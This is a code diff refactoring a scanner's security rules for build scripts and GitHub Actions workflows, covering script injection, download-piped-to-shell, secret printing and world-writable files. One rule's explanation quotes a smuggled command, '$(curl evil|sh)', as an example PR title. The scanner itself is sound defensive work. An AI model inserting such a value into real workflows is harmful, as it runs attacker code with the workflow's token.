@@ -2,7 +2,7 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: the examples hold expressions of shells and of GitHub Actions
 import type { InspectedFile } from "../../../ports.ts";
 import { type KnownLine, knownLines } from "../known-lines.ts";
-import type { LineRule, Match } from "../rule.ts";
+import { type LineRule, type Match, rulesOf } from "../rule.ts";
 import { holdsCommands, isComment, isWorkflow, linesOf, matchAt, named, realOnes, searchLines } from "./line-rule.ts";
 
 const MANIFEST = /(?:^|\/)package\.json$/;
@@ -130,12 +130,11 @@ function isKnownSet(file: InspectedFile, variable: string, before: number): bool
 const WORLD_WRITABLE =
   /\bchmod\s+(?:-[a-zA-Z]+\s+|--recursive\s+)*(?:0?[0-7]?777|0?[0-7]?666|a\+rwx|o\+[rx]*w[rx]*|ugo\+rwx|a\+w)\b/;
 
-export const BUILD_RULES: readonly LineRule[] = [
+export const BUILD_RULES = rulesOf<LineRule>("security", [
   {
     id: "install-script-downloads",
     title: "Install script downloads and runs code",
     severity: "major",
-    category: "security",
     confidence: 0.7,
     why: "It runs on every machine that installs the package, with that person's rights, and whatever the server sends.",
     fix: "Ship the file in the package, or download it in a step that people start and that checks a checksum.",
@@ -187,7 +186,6 @@ export const BUILD_RULES: readonly LineRule[] = [
     id: "workflow-runs-untrusted-code",
     title: "Privileged workflow checks out the code of a pull request",
     severity: "critical",
-    category: "security",
     confidence: 0.75,
     why: "`pull_request_target` and `workflow_run` hold secrets and a writing token; anybody can open a pull request whose code then runs with them.",
     fix: "Use `pull_request`, or split the work: build without secrets, then act on the result in a second workflow that runs no code of the pull request.",
@@ -205,7 +203,6 @@ export const BUILD_RULES: readonly LineRule[] = [
     id: "workflow-script-injection",
     title: "Workflow inserts untrusted text into a script",
     severity: "critical",
-    category: "security",
     confidence: 0.85,
     why: "The expression is replaced before the shell starts, so that a title such as `$(curl evil|sh)` runs with the workflow's token.",
     fix: 'Hand the value over through `env:` and use it quoted: `"$TITLE"`.',
@@ -224,7 +221,6 @@ export const BUILD_RULES: readonly LineRule[] = [
     id: "workflow-action-on-branch",
     title: "Action of a third party follows a branch",
     severity: "medium",
-    category: "security",
     confidence: 0.6,
     why: "Whoever can push to that branch changes what runs here, with this workflow's secrets and without a review.",
     fix: "Pin the action to a full commit SHA, with the version in a comment.",
@@ -242,7 +238,6 @@ export const BUILD_RULES: readonly LineRule[] = [
     id: "workflow-write-all",
     title: "Workflow gets every permission",
     severity: "medium",
-    category: "security",
     confidence: 0.8,
     why: "Any step, and any action it uses, can then push code, publish packages and change releases.",
     fix: "Grant what the job needs, such as `permissions: { contents: read }`.",
@@ -255,7 +250,6 @@ export const BUILD_RULES: readonly LineRule[] = [
     id: "workflow-prints-secret",
     title: "Workflow hands out secrets",
     severity: "major",
-    category: "security",
     confidence: 0.65,
     why: "Logs mask a secret only where it appears unchanged; any encoding of it stays readable, and all secrets at once reach every tool of the step.",
     fix: "Pass the one secret that the step needs through `env:`, and do not print it.",
@@ -267,7 +261,6 @@ export const BUILD_RULES: readonly LineRule[] = [
     id: "workflow-unsecure-commands",
     title: "Workflow allows commands from its output",
     severity: "major",
-    category: "security",
     confidence: 0.9,
     why: "`set-env` and `add-path` let anything that prints to the log change the environment of later steps (CVE-2020-15228).",
     fix: "Write to `$GITHUB_ENV` and `$GITHUB_PATH` instead, and remove the setting.",
@@ -279,7 +272,6 @@ export const BUILD_RULES: readonly LineRule[] = [
     id: "download-piped-to-shell",
     title: "Download runs without a check",
     severity: "medium",
-    category: "security",
     confidence: 0.5,
     why: "Whatever the server sends is run, also when it was exchanged or cut off in the middle.",
     fix: "Download to a file, compare its checksum, then run it.",
@@ -315,7 +307,6 @@ export const BUILD_RULES: readonly LineRule[] = [
     id: "shell-eval-of-variable",
     title: "Shell evaluates a variable as code",
     severity: "major",
-    category: "security",
     confidence: 0.45,
     why: "Whatever reaches the variable runs as a command: a file name with `;` in it is enough.",
     fix: 'Keep the command in an array and call `"${command[@]}"`.',
@@ -330,7 +321,6 @@ export const BUILD_RULES: readonly LineRule[] = [
     id: "file-writable-by-everybody",
     title: "Files become writable for everybody",
     severity: "medium",
-    category: "security",
     confidence: 0.6,
     why: "Any user or process of the machine can then exchange the files, and with them what runs later.",
     fix: "Give the owner or group what they need, such as `chmod 755` or `chown`.",
@@ -345,4 +335,4 @@ export const BUILD_RULES: readonly LineRule[] = [
       (text) => !isComment(text) && WORLD_WRITABLE.test(text) && !/\bchmod\s+(?:-\w+\s+)?0?1777\b/.test(text),
     ),
   },
-];
+]);
